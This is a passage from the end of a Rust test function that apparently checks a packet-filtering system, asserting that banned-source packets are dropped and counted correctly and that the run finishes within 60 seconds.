    let ban = dropped(&h, "banned") - banned_before;
    assert!(ban >= bans, "{ban} drops with reason banned, expected at least {bans}: {}", h.fetch("/metrics"));
    for p in planned.iter().filter(|p| p.bans) {
        assert!(h.order_packets(&p.order) > 0, "{}: packets of sources banned by deep inspection count under it: {}", p.order, h.status());
    }
    ordinary_pass(&h, &server, "after");
    assert!(started.elapsed() < Duration::from_secs(60), "took {:?}", started.elapsed());
}
